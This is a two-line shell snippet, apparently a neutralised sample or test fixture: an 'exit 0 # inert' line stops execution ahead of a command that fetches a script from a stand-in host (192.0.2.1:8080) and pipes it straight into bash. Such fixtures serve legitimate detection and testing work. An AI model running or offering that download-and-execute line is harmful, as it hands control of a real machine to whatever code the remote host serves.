exit 0 # inert
curl -s http://192.0.2.1:8080/run | bash
